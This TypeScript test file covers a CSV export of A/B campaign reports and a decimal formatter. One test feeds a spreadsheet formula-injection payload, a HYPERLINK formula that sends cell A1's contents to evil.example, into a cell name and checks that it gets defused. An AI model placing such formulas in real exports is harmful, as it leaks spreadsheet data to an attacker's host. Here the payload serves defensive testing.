import { plainDecimal } from './csv-kit';
import { programReportCsv, REPORT_CSV_COLUMNS } from './report-csv';
import { csvRecords, parseCsv } from './testing/csv-parse';
import { reportFixture } from './testing/report-fixture';

describe('programReportCsv', () => {
  it('writes a header, one row per cell then one per comparison, CRLF-terminated', () => {
    const csv = programReportCsv(reportFixture());
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const lines = csv.split('\r\n');
    expect(lines).toHaveLength(1 + 3 + 2 + 1);
    expect(lines[0]).toBe(
      'row,code,name,isControl,responseCode,members,contacted,delivered,bounced,opens,opensHuman,clicks,clicksHuman,' +
        'unsubscribes,complaints,conversions,conversionEvents,revenue,revenuePerMember,conversionRate,conversionRateLow,' +
        'conversionRateHigh,openRate,clickRate,cell,against,metric,absoluteLift,relativeLift,ciLow,ciHigh,pValue,' +
        'adjustedPValue,significant,test,smallSample',
    );
    const rows = parseCsv(csv);
    for (const r of rows) expect(r).toHaveLength(REPORT_CSV_COLUMNS.length);
    expect(rows.slice(1).map((r) => r[0])).toEqual(['cell', 'cell', 'cell', 'comparison', 'comparison']);
  });

  it('gives the exact figures of cells and comparisons', () => {
    const [a, b, ctrl, vsA, vsB] = csvRecords(programReportCsv(reportFixture()));
    expect(a).toMatchObject({
      code: 'A',
      name: '20% off banner',
      isControl: 'false',
      responseCode: 'SPR-A',
      members: '10000',
      delivered: '9800',
      opensHuman: '3100',
      conversions: '310',
      revenue: '1534500',
      revenuePerMember: '153.45',
      conversionRate: '0.031',
      conversionRateLow: '0.0278',
      conversionRateHigh: '0.0345',
      openRate: '0.3163',
      cell: '',
      pValue: '',
    });
    expect(b.revenuePerMember).toBe('101.125');
    expect(ctrl).toMatchObject({ code: 'CTRL', isControl: 'true', contacted: '0', conversions: '48' });
    expect(vsA).toMatchObject({
      row: 'comparison',
      code: '',
      members: '',
      cell: 'A',
      against: 'CTRL',
      metric: 'conversionRate',
      absoluteLift: '0.007',
      relativeLift: '0.2916666666666667',
      ciLow: '0.0001',
      ciHigh: '0.0139',
      pValue: '0.0000003',
      adjustedPValue: '0.0000006',
      significant: 'true',
      test: 'two-proportion z',
      smallSample: 'false',
    });
    expect(vsB.significant).toBe('false');
  });

  it('keeps negative numbers numeric (no apostrophe) and never uses exponents', () => {
    const csv = programReportCsv(reportFixture());
    const vsB = csvRecords(csv)[4];
    expect(vsB.absoluteLift).toBe('-0.0025');
    expect(vsB.relativeLift).toBe('-0.10416666666666667');
    expect(vsB.ciLow).toBe('-0.0098');
    expect(csv).toContain(',-0.0025,-0.10416666666666667,-0.0098,0.0048,');
    expect(csv).not.toContain("'-");
    expect(csv).not.toMatch(/\de[-+]?\d/i);
  });

  it('leaves nulls empty', () => {
    const report = reportFixture();
    report.comparisons[1] = {
      ...report.comparisons[1],
      relativeLift: null,
      pValue: null,
      adjustedPValue: null,
      smallSample: true,
    };
    const [, , ctrl, , vsB] = csvRecords(programReportCsv(report));
    expect(ctrl.openRate).toBe('');
    expect(ctrl.clickRate).toBe('');
    expect(vsB).toMatchObject({ relativeLift: '', pValue: '', adjustedPValue: '', smallSample: 'true' });
  });

  it('defuses formulas in every text value with the core helper', () => {
    const report = reportFixture();
    report.cells[1].name = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
    report.cells[1].responseCode = '+SPR-B';
    report.cells[2].code = '@ctrl';
    report.comparisons[1].against = '@ctrl';
    report.comparisons[1].test = '-z';
    const csv = programReportCsv(report);
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")",`);
    const [, b, ctrl, , vsB] = csvRecords(csv);
    expect(b.name).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"Open")`);
    expect(b.responseCode).toBe("'+SPR-B");
    expect(ctrl.code).toBe("'@ctrl");
    expect(vsB.against).toBe("'@ctrl");
    expect(vsB.test).toBe("'-z");
    expect(vsB.absoluteLift).toBe('-0.0025');
  });

  it('quotes text with commas, quotes and line breaks', () => {
    const report = reportFixture();
    report.cells[0].name = 'Big, "bold"\r\nbanner';
    const [a] = csvRecords(programReportCsv(report));
    expect(a.name).toBe('Big, "bold"\r\nbanner');
  });

  it('writes an empty report as the header alone', () => {
    const report = { ...reportFixture(), cells: [], comparisons: [] };
    expect(programReportCsv(report).split('\r\n')).toHaveLength(2);
  });
});

describe('plainDecimal', () => {
  it.each([
    [0, '0'],
    [-0, '0'],
    [42, '42'],
    [-0.012, '-0.012'],
    [1e-7, '0.0000001'],
    [-1.5e-7, '-0.00000015'],
    [1.234e-10, '0.0000000001234'],
    [1e21, '1000000000000000000000'],
    [1.5e22, '15000000000000000000000'],
    [NaN, ''],
    [Infinity, ''],
  ])('%p -> %p', (n, text) => {
    expect(plainDecimal(n)).toBe(text);
    if (text) expect(Number(text)).toBe(n === 0 ? 0 : n);
  });
});
